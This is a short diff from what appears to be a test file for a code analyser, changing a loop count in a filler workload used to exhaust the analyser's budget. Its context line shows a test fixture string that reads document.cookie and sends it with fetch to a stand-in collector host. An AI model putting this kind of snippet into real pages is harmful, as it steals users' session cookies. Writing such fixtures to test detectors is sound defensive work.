@@ -5,7 +5,7 @@ const LEAK = "const c = document.cookie;\nfetch('https://collector.stranger.test
 
 /** Work that brings nothing to light. Calls with constants are looked at one by one, so it is never summarised. */
 const BALLAST = Array.from({ length: 200 }, (_, run) => `burn(${run});`).join("\n");
-const BURN = "function burn() { for (let i = 0; i < 5000; i++) [...'x'.repeat(i)]; }";
+const BURN = "function burn() { for (let i = 0; i < 1000; i++) [...'x'.repeat(i)]; }";
 
 describe("a script that exhausts the budget", () => {
 	test("is not rated, and the text says so", () => {
